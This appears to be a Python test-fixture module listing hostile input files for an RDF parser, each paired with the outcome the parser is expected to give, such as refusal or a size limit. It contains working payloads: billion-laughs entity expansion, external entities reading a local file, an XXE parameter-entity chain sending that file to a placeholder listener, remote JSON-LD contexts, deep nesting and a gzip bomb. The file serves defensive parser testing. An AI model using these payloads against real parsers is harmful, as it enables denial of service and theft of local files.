"""Files that attack whoever parses them: entities, contexts, encodings, nesting, compression."""

from __future__ import annotations

import gzip
import json

from hostile_files import FAULTY, FINE, REFUSED, STOPPED, TOO_LARGE, HostileFile, one_of, turtle

RDF = '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="https://e.example/">'
SAID = '<rdf:Description rdf:about="https://e.example/s">{}</rdf:Description></rdf:RDF>'


def rdf_xml(declared: str, said: str) -> str:
    """RDF/XML with something before the root and a property with ``said`` in it."""
    return f'<?xml version="1.0"?>{declared}{RDF}{SAID.format(f"<e:p>{said}</e:p>")}'


LAUGHS = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(12))
QUADRATIC = f'<!ENTITY a "{"a" * 60_000}">'

XML = [
    HostileFile(
        "entities that grow tenfold",
        "laughs.rdf",
        rdf_xml(f'<!DOCTYPE r [<!ENTITY l0 "ha">{LAUGHS}]>', "&l12;"),
        one_of(REFUSED, TOO_LARGE),
        "entit",
    ),
    HostileFile(
        "an entity of 60 kB, 60,000 times",
        "quadratic.rdf",
        rdf_xml(f"<!DOCTYPE r [{QUADRATIC}]>", "&a;" * 60_000),
        one_of(REFUSED, TOO_LARGE),
        "entit",
    ),
    HostileFile(
        "an entity that names itself",
        "circle.rdf",
        rdf_xml('<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
        one_of(REFUSED),
    ),
    HostileFile(
        "an external entity of a file",
        "file-entity.rdf",
        rdf_xml('<!DOCTYPE r [<!ENTITY x SYSTEM "file://@CANARY@">]>', "&x;"),
        one_of(REFUSED),
    ),
    HostileFile(
        "an external entity elsewhere",
        "http-entity.rdf",
        rdf_xml('<!DOCTYPE r [<!ENTITY x SYSTEM "@LISTENER@">]>', "&x;"),
        one_of(REFUSED),
    ),
    HostileFile(
        "a parameter entity elsewhere",
        "parameter.rdf",
        rdf_xml('<!DOCTYPE r [<!ENTITY % x SYSTEM "@LISTENER@"> %x;]>', "1"),
        one_of(REFUSED, FINE),
    ),
    HostileFile(
        "parameter entities that send a file",
        "exfiltration.rdf",
        rdf_xml(
            '<!DOCTYPE r [<!ENTITY % f SYSTEM "file://@CANARY@"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '
            "'@LISTENER@?%f;'>\"> %e; %s;]>",
            "1",
        ),
        one_of(REFUSED, FINE),
    ),
    HostileFile(
        "a document type elsewhere",
        "dtd.rdf",
        rdf_xml('<!DOCTYPE rdf:RDF SYSTEM "@LISTENER@d.dtd">', "1"),
        one_of(REFUSED, FINE),
    ),
    HostileFile(
        "XInclude of a file",
        "xinclude.rdf",
        rdf_xml(
            "",
            '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file://@CANARY@" parse="text"/>',
        ),
        one_of(REFUSED, FINE),
    ),
    HostileFile(
        "a style sheet and a base elsewhere",
        "stylesheet.rdf",
        rdf_xml('<?xml-stylesheet type="text/xsl" href="@LISTENER@x.xsl"?>', "1"),
        one_of(FINE),
    ),
    HostileFile(
        "entities in TriX",
        "laughs.trix",
        f'<!DOCTYPE r [<!ENTITY l0 "ha">{LAUGHS}]><TriX xmlns="http://www.w3.org/2004/03/trix/trix-1/">'
        "<graph><triple><uri>https://e.example/s</uri><uri>https://e.example/p</uri>"
        "<plainLiteral>&l12;</plainLiteral></triple></graph></TriX>",
        one_of(REFUSED, TOO_LARGE),
    ),
    HostileFile(
        "an external entity in TriX",
        "file-entity.trix",
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file://@CANARY@">]><TriX xmlns="http://www.w3.org/2004/03/trix/trix-1/">'
        "<graph><triple><uri>https://e.example/s</uri><uri>https://e.example/p</uri>"
        "<plainLiteral>&x;</plainLiteral></triple></graph></TriX>",
        one_of(REFUSED, FINE),
    ),
    HostileFile(
        "10,000 nested elements",
        "deep.rdf",
        f'<?xml version="1.0"?>{RDF}' + "<e:C><e:p>" * 10_000 + "</e:p></e:C>" * 10_000 + "</rdf:RDF>",
        one_of(REFUSED, STOPPED, FINE),
    ),
    HostileFile(
        "20,000 attributes",
        "attributes.rdf",
        f'{RDF}<rdf:Description rdf:about="https://e.example/s" '
        + " ".join(f'e:p{n}="1"' for n in range(20_000))
        + "/></rdf:RDF>",
        one_of(REFUSED, FINE),
    ),
]


def json_ld(context: object, **more: object) -> str:
    """A JSON-LD document with this context."""
    return json.dumps({"@context": context, "@id": "https://e.example/s", "name": "x", **more})


NESTED_CONTEXT: dict[str, object] = {"name": "https://e.example/p"}
for _ in range(200):
    NESTED_CONTEXT = {"name": {"@id": "https://e.example/p", "@context": NESTED_CONTEXT}}

JSON = [
    HostileFile("a remote context", "remote.jsonld", json_ld("@LISTENER@c.jsonld"), one_of(REFUSED), "context"),
    HostileFile(
        "remote contexts in a list",
        "remotes.jsonld",
        json_ld([{"name": "https://e.example/p"}, "@LISTENER@a", "@LISTENER@b"]),
        one_of(REFUSED),
        "context",
    ),
    HostileFile(
        "a context that imports another",
        "import.jsonld",
        json_ld({"@version": 1.1, "@import": "@LISTENER@i.jsonld"}),
        one_of(REFUSED),
    ),
    HostileFile("a context that is a file", "file.jsonld", json_ld("file://@CANARY@"), one_of(REFUSED), "context"),
    HostileFile(
        "a remote context of one term",
        "scoped.jsonld",
        json_ld(
            {"name": {"@id": "https://e.example/p", "@context": "@LISTENER@"}}, name={"@id": "https://e.example/o"}
        ),
        one_of(REFUSED, FINE),
    ),
    HostileFile("200 contexts in contexts", "contexts.jsonld", json_ld(NESTED_CONTEXT), one_of(REFUSED, FINE, STOPPED)),
    HostileFile(
        "terms that mean each other", "cyclic.jsonld", json_ld({"a": "b:x", "b": "a:y"}, a="1"), one_of(REFUSED)
    ),
    HostileFile("10,000 nested arrays", "arrays.jsonld", "[" * 10_000 + "]" * 10_000, one_of(REFUSED, STOPPED)),
    HostileFile(
        "10,000 nested objects",
        "objects.jsonld",
        '{"https://e.example/p":' * 10_000 + "1" + "}" * 10_000,
        one_of(REFUSED, STOPPED, FINE),
    ),
    HostileFile(
        "a number of 100,000 digits",
        "digits.jsonld",
        '{"@id":"https://e.example/s","https://e.example/p":' + "9" * 100_000 + "}",
        one_of(REFUSED, FINE, FAULTY),
    ),
    HostileFile(
        "half a character in JSON",
        "surrogate.jsonld",
        '{"@id":"https://e.example/s","https://e.example/p":"\\ud800 x"}',
        one_of(REFUSED, FINE),
    ),
    HostileFile(
        "NaN in JSON", "nan.jsonld", '{"@id":"https://e.example/s","https://e.example/p":NaN}', one_of(REFUSED)
    ),
    HostileFile(
        "keys that are Python's", "proto.jsonld", json_ld({"__proto__": "e:x"}, __class__="x"), one_of(FINE, REFUSED)
    ),
]

SAYS = "<https://e.example/s> <https://e.example/p> "
ENCODINGS = [
    *(
        HostileFile(f"bad UTF-8 at the {where}", f"bad-{where}.ttl", data, one_of(REFUSED), "UTF-8")
        for where, data in (
            ("start", b"\xff\xfe\xfd" + SAYS.encode() + b"1 ."),
            ("middle", SAYS.encode() + b'"a\xc3\x28b" .\n' + SAYS.encode() + b"1 ."),
            ("end", SAYS.encode() + b"1 .\n# \xe4\xb8"),
        )
    ),
    HostileFile("overlong UTF-8", "overlong.ttl", SAYS.encode() + b"'\xc0\xbcscript\xe0\x80\xbe' .", one_of(REFUSED)),
    HostileFile("half a character in UTF-8", "half.ttl", SAYS.encode() + b"'\xed\xa0\x80' .", one_of(REFUSED), "UTF-8"),
    HostileFile("half a character, escaped", "half-escaped.ttl", SAYS + r"'\uD800' .", one_of(REFUSED), "line 1"),
    HostileFile("UTF-16 with its mark", "utf16.ttl", (SAYS + "1 .").encode("utf-16"), one_of(REFUSED), "UTF-8"),
    HostileFile("UTF-16 without", "utf16le.ttl", (SAYS + "1 .").encode("utf-16-le"), one_of(REFUSED), "line 1"),
    HostileFile("GB 18030", "gbk.ttl", (SAYS + "'星河区' .").encode("gb18030"), one_of(REFUSED), "UTF-8"),
    HostileFile("UTF-8 with a mark", "bom.ttl", b"\xef\xbb\xbf" + SAYS.encode() + b"1 .", one_of(FINE)),
    HostileFile("a null byte in a string", "nul.ttl", SAYS.encode() + b"'a\x00b' .", one_of(REFUSED, FINE)),
    HostileFile("a null byte in an IRI", "nul-iri.ttl", SAYS.encode() + b"<e:a\x00b> .", one_of(REFUSED)),
    HostileFile("escaped control characters", "controls.ttl", SAYS + r"'\u0000\u0001\u001B[31m\u007F' .", one_of(FINE)),
    HostileFile("an RDF/XML in UTF-16", "utf16.rdf", rdf_xml("", "x").encode("utf-16"), one_of(REFUSED, FINE)),
    HostileFile(
        "entities in UTF-16",
        "laughs16.rdf",
        f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY l0 "ha">{LAUGHS}]>{RDF}'
        f"{SAID.format('<e:p>&l12;</e:p>')}".encode("utf-16"),
        one_of(REFUSED, TOO_LARGE),
    ),
    HostileFile("a picture with an RDF name", "picture.ttl", b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, one_of(REFUSED)),
    HostileFile("a page with an RDF name", "page.ttl", "<!DOCTYPE html><script>alert(1)</script>", one_of(REFUSED)),
    HostileFile("Turtle with an XML name", "turtle.rdf", turtle("e:s e:p 1 ."), one_of(REFUSED)),
    HostileFile("nothing", "nothing.ttl", b"", one_of(FINE), http=one_of(REFUSED)),
]

DEEP = [
    HostileFile(
        "10,000 nested blank nodes",
        "deep-nodes.ttl",
        SAYS + "[<https://e.example/p> " * 10_000 + "1" + "]" * 10_000 + " .",
        one_of(FINE, STOPPED, REFUSED),
    ),
    HostileFile(
        "10,000 nested collections",
        "deep-lists.ttl",
        SAYS + "(" * 10_000 + ")" * 10_000 + " .",
        one_of(FINE, STOPPED, REFUSED),
    ),
    HostileFile(
        "100,000 brackets that don't close", "open.ttl", SAYS + "[<https://e.example/p> " * 100_000, one_of(REFUSED)
    ),
    HostileFile(
        "10,000 nested formulas",
        "formulas.n3",
        SAYS + "{" * 10_000 + "}" * 10_000 + " .",
        one_of(FINE, REFUSED, STOPPED),
    ),
    HostileFile("10,000 nested quoted triples", "quoted.ttl", "<< " * 10_000 + SAYS, one_of(REFUSED)),
    HostileFile(
        "10,000 graphs in graphs", "graphs.trig", "<https://e.example/g> { " * 10_000 + "} " * 10_000, one_of(REFUSED)
    ),
]


def _bomb() -> bytes:
    return gzip.compress(b"# nothing but a comment in Turtle, many times over\n" * 6_000_000, 9)


COMPRESSED = [
    HostileFile(
        "300 MB of comments in 300 kB", "bomb.ttl.gz", _bomb, one_of(TOO_LARGE), "large|more than", one_of(REFUSED)
    ),
    HostileFile("a broken gzip", "broken.ttl.gz", gzip.compress(b"# x\n" * 1000)[:-9], one_of(REFUSED), "gzip|read"),
    HostileFile("not gzip at all", "plain.ttl.gz", SAYS + "1 .", one_of(REFUSED), "gzip|read"),
    HostileFile("garbage in a gzip", "garbage.ttl.gz", gzip.compress(b"x")[:10] + b"\xff" * 50, one_of(REFUSED)),
]

SYNTAX = [*XML, *JSON, *ENCODINGS, *DEEP, *COMPRESSED]
